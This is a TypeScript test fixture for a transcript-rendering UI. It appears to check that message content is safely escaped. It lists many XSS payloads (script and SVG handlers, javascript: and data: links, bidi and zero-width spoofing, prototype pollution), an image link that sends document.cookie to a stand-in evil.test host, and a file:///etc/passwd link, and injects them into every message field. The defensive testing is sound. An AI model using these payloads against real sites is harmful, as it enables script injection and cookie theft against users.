import type { ToolUpdates, TranscriptMessage } from '@agent-transcript/components';
import type { JsonValue } from '@agent-transcript/protocol';

/** Texts that an attacker would write: each goes to every place where a transcript shows text. */
export const hostileTexts: Readonly<Record<string, string>> = {
  script: '<script>pwned("script")</script>',
  'split script': '<scr<script>ipt>pwned("split")</scr</script>ipt>',
  'closed script': '</script><script src=https://evil.test/s.js></script>',
  'image with a handler': '<img src=x onerror=pwned("img")>',
  'image without quotes': '"><img src=https://evil.test/p.png onload=pwned(1)>',
  svg: '<svg onload=pwned("svg")><a xlink:href="javascript:pwned(1)"><text>x</text></a></svg>',
  'svg with use':
    '<svg><use href="https://evil.test/x.svg#a"/><animate onbegin=pwned(1) attributeName=x dur=1s></svg>',
  math: '<math><mtext><table><mglyph><style><img src onerror=pwned("math")></style></mglyph></table></mtext></math>',
  iframe: '<iframe srcdoc="&lt;script&gt;parent.pwned(1)&lt;/script&gt;" src=javascript:pwned(1)></iframe>',
  object: '<object data=https://evil.test/o></object><embed src=https://evil.test/e>',
  form: '<form action=https://evil.test><input name=q autofocus onfocus=pwned(1)><button formaction=javascript:pwned(1)>x</button></form>',
  style: '<style>@import "https://evil.test/s.css"; * { background: url(https://evil.test/b.png) }</style>',
  'style attribute':
    '<p style="position:fixed;inset:0;background:url(https://evil.test/c.png)">over everything</p>',
  link: '<link rel=stylesheet href=https://evil.test/l.css><link rel=prefetch href=https://evil.test/f><base href=https://evil.test/>',
  refresh: '<meta http-equiv=refresh content="0;url=https://evil.test">',
  handlers:
    '<details open ontoggle=pwned(1)><summary onclick=pwned(2)>x</summary></details><marquee onstart=pwned(3)>',
  'comment and CDATA':
    '<!--><img src=x onerror=pwned(1)>--> <![CDATA[<script>pwned(1)</script>]]> <?xml-stylesheet href="https://evil.test"?>',
  'attribute break': '" onmouseover="pwned(1)" x="\' onfocus=\'pwned(2)\' autofocus tabindex=1 ',
  'entity tags':
    '&lt;img src=x onerror=pwned(1)&gt; &#60;script&#62;pwned(2)&#60;/script&#62; &#x3c;svg onload=pwned(3)&#x3e;',
  'javascript link': '[a](javascript:pwned(1)) [b](JaVaScRiPt:pwned(2)) [c](  javascript:pwned(3))',
  'javascript with entities':
    '[a](javascript&colon;pwned(1)) [b](&#106;avascript:pwned(2)) [c](java&#9;script:pwned(3)) [d](java&NewLine;script:pwned(4))',
  'javascript with white space':
    '[a](<java\tscript:pwned(1)>) [b](<\u0001javascript:pwned(2)>) [c](<java\u00adscript:pwned(3)>) [d](%6Aavascript:pwned(4))',
  'javascript behind an address':
    '[a](javascript://evil.test/%0Apwned(1)) [b](https:javascript:pwned(2)) [c](http:\\\\evil.test)',
  'data and vbscript':
    '[a](data:text/html,<script>pwned(1)</script>) [b](DATA:text/html;base64,PHNjcmlwdD4=) [c](vbscript:msgbox(1)) [d](blob:https://evil.test/1) [e](file:///etc/passwd) [f](filesystem:https://evil.test/x)',
  'relative addresses':
    '[a](//evil.test/x) [b](/logout) [c](?q=1) [d](#0) [e](\\\\evil.test\\x) [f](evil.test) [g]()',
  'javascript autolink':
    '<javascript:pwned(1)> <data:text/html,x> <vbscript:x> <HTTPS://evil.test/auto> <mailto:a@evil.test>',
  'bare addresses':
    'https://evil.test/bare?a=1&b=2 www.evil.test/www a@evil.test xmpp:a@evil.test javascript:pwned(1) //evil.test',
  'reference link': '[a][x] [x] [b][y]\n\n[x]: javascript:pwned(1) "title"\n[y]: <data:text/html,x>',
  'link title':
    '[a](https://evil.test/t "\\" onmouseover=\\"pwned(1)") [b](https://evil.test/u \'<img src=x onerror=pwned(1)>\')',
  'inline image':
    '![a](https://evil.test/i.png) ![b](//evil.test/i.png "t") ![c](data:image/svg+xml,<svg/onload=pwned(1)>) ![d](javascript:pwned(1))',
  'reference image': '![a][p] ![p]\n\n[p]: https://evil.test/r.png "t"',
  'image in a link':
    '[![a](https://evil.test/j.png)](https://evil.test/k) [![b](https://evil.test/l.png)](javascript:pwned(1))',
  'image with data to steal': '![secret](https://evil.test/?q=SECRET+${document.cookie}+`id`)',
  'bidi in a link': '[\u202emoc.knab\u202c and \u2066more\u2069 \u202e](https://evil.test/bidi) after',
  'bidi left open': '\u202e\u202d\u2067\u2066 reversed [x](https://evil.test/\u202egnp.exe)',
  'zero width': '[b\u200ban\u200dk.t\u2060est\ufeff](https://evil.test/zero) java\u200bscript:pwned(1)',
  'control characters':
    'a\u0000b\u0001c\u0007d\u0008e\u000bf\u000cg\u007fh\u0085i\u2028j\u2029k\ufffel\ud800m\udc00n',
  'ANSI escapes':
    '\u001b]8;;javascript:pwned(1)\u001b\\click\u001b]8;;\u001b\\ \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u001b[0J \u001bPq#0\u001b\\ \u009b31mC1',
  'property names': '__proto__',
  constructor: 'constructor',
  'more property names': 'toString',
  templates:
    '${pwned(1)} {{constructor.constructor("pwned(1)")()}} <%= pwned(2) %> #{pwned(3)} {% raw %} `${pwned(4)}`',
  tags: '<<STEP_END>> <</thinking>> <<TOOL_STEP_RESULT_END>> <<INPUT_REQUIRED_END>> <<ERROR_JSON_END>>',
  fence: '```html onload=pwned(1)\n<script>pwned(1)</script>\n```\n~~~"><img src=x onerror=pwned(2)>\nx\n~~~',
  table:
    '| <img src=x onerror=pwned(1)> | [a](javascript:pwned(1)) |\n| --- | --- |\n| ![x](https://evil.test/t.png) | <b onclick=pwned(1)> |',
  footnote:
    'a[^<img src=x onerror=pwned(1)>] b[^1]\n\n[^1]: ![x](https://evil.test/f.png) <script>pwned(1)</script>',
  'task list': '- [x] <input onfocus=pwned(1) autofocus>\n- [ ] [a](javascript:pwned(1))',
  mathematics:
    '$$\\href{javascript:pwned(1)}{x}\\includegraphics{https://evil.test/m.png}$$ ```mermaid\nclick A "javascript:pwned(1)"\n```',
  'custom element':
    '<x-evil is="script"></x-evil><slot name=x></slot><template shadowrootmode=open><script>pwned(1)</script></template>',
  'clobbering names':
    '<a id=attributes name=getElementById><form id=body name=forms></form><img name=currentScript>',
};

/** Marks a place, so that a test can tell whether the text of the place has come to the page. */
const mark = (place: string) => `«${place}»`;

/** The places of {@link hostileMessages} that are written out on the page once everything is open. */
export const shownPlaces: readonly string[] = [
  'prose', 'thinking', 'step', 'tool name', 'input key', 'input value', 'result key', 'result value', 'plain result',
  'broken input', 'checkpoint', 'prompt', 'type', 'choice', 'answer', 'JSON answer', 'error', 'traceback', 'detail key', 'detail value',
  'plain details', 'role', 'date', 'kind', 'description', 'instance', 'data key', 'data value', 'schema key', 'input content', 'state content',
  'written later', 'reference', 'phase', 'progress', 'partial content',
].map(mark); // biome-ignore format: a list of words

const line = (text: string) => text.replaceAll(/[\r\n]+/g, ' ');

/** One message in which every place of the tagged format holds `text`. */
export function hostileSource(text: string): string {
  const own = (place: string) => mark(place) + text;
  const json = (value: unknown) => JSON.stringify(value);
  const tool = (
    name: string,
    input: string,
    result: string,
  ) => `<<TOOL_STEP_START/${line(name)}:id${line(text)}>>
<<TOOL_STEP_INPUT_START>>
${input}
<<TOOL_STEP_INPUT_END>>
${result}
<<TOOL_STEP_END/${line(name)}:id${line(text)}>>`;
  return `${text}

${own('prose')}

> ${line(text)}
1. ${line(text)}

# ${line(text)}

<<thinking>>
${own('thinking')}
<</thinking>>
<<STEP_START>>
Step 1: ${line(own('step'))} ✗
${tool(
  'plain',
  json({
    [own('input key')]: own('input value'),
    [text]: { [text]: [text, text] },
    ref: `†${text}`,
    refs: [`†${text}.${text}`, '†facts.key'],
  }),
  `<<TOOL_STEP_RESULT_START>>\n${json({ [own('result key')]: own('result value'), __proto__x: { constructor: text } })}\n<<TOOL_STEP_RESULT_END>>`,
)}
${tool(own('tool name').replaceAll('>>', ''), `{"broken": ${own('broken input')}`, `<<TOOL_STEP_RESULT_START>>\n${own('plain result')}\n<<TOOL_STEP_RESULT_END>>`)}
${tool(
  'failing',
  json(text),
  `<<ERROR_START>>\nError: ${own('error')}\n<<ERROR_END>>

<<ERROR_JSON_START>>
${json({ error: text, traceback: `Traceback (most recent call last):\n  File "${line(text)}", line 3, in ${line(text)}\n    ${line(text)}\n${own('traceback')}`, timestamp: text, [own('detail key')]: own('detail value') })}
<<ERROR_JSON_END>>`,
)}
<<ERROR_START>>
Error: ${text}
<<ERROR_END>>

<<ERROR_JSON_START>>
${own('plain details')}
<<ERROR_JSON_END>>
<<CHECKPOINT_START>>
Checkpoint: ${line(own('checkpoint'))}
<<CHECKPOINT_END>>
<<INPUT_REQUIRED_START>>
${own('prompt')}
- ${line(own('choice'))}
Expected input types: choice, ${line(own('type'))}, ${line(text)}, ${line(text)}
checkpoint_name: ${line(text)}
<<INPUT_REQUIRED_END>>
<<INPUT_REQUIRED_START>>
${text}
<<USER_INPUT_PROVIDED_START>>
${json({ input: own('answer'), type: text })}
<<USER_INPUT_PROVIDED_END>>
<<INPUT_REQUIRED_END>>
<<INPUT_REQUIRED_START>>
Which?
<<USER_INPUT_PROVIDED_START>>
${json({ input: { [text]: own('JSON answer') }, type: text })}
<<USER_INPUT_PROVIDED_END>>
<<INPUT_REQUIRED_END>>
<<STEP_END>>
<<${line(text)}>> <<TOOL_STEP_START/${line(text)}>>
<<TOOL_STEP_START/running:call_running>>
<<STEP_START>>
<<TOOL_STEP_INPUT_START>>
{"cut": "${text}`;
}

/** A conversation in which every place of every content holds `text`. */
export function hostileMessages(text: string, streaming = false): readonly TranscriptMessage[] {
  const own = (place: string) => mark(place) + text;
  const schema = { [own('schema key')]: text, $ref: 'https://evil.test/schema.json', title: text } as const;
  const data = (value: JsonValue) =>
    ({
      type: 'data',
      kind: own('kind'),
      _instance: own('instance'),
      description: own('description'),
      data: value,
      schema,
    }) as const;
  return [
    {
      id: `data ${text}`,
      role: own('role'),
      createdAt: own('date'),
      content: [
        data({ [own('data key')]: own('data value'), list: [text] }),
        data({ later: own('written later') }),
        { type: 'data', kind: 'facts', data: { key: own('reference') } },
        { type: 'input', input: { [text]: own('input content') }, description: text, schema },
        { type: 'state', state: own('state content'), _instance: text },
        {
          type: 'data',
          kind: text,
          data: JSON.parse(
            `{"__proto__": {"polluted": true}, "constructor": {"prototype": {"polluted": true}}}`,
          ) as JsonValue,
        },
        { type: 'text', text },
      ],
    },
    { id: text, role: text, createdAt: text, content: hostileSource(text), streaming },
    { id: 'typed', role: 'user', content: hostileSource(text), streaming },
    {
      id: 'running',
      role: 'assistant',
      content: '<<TOOL_STEP_START/running:call_1>>\n<<TOOL_STEP_INPUT_START>>\n{}\n<<TOOL_STEP_INPUT_END>>\n',
      streaming: true,
    },
  ];
}

export function hostileUpdates(text: string): ToolUpdates {
  const own = (place: string) => mark(place) + text;
  return { call_1: { phase: own('phase'), message: own('progress'), content: own('partial content') } };
}
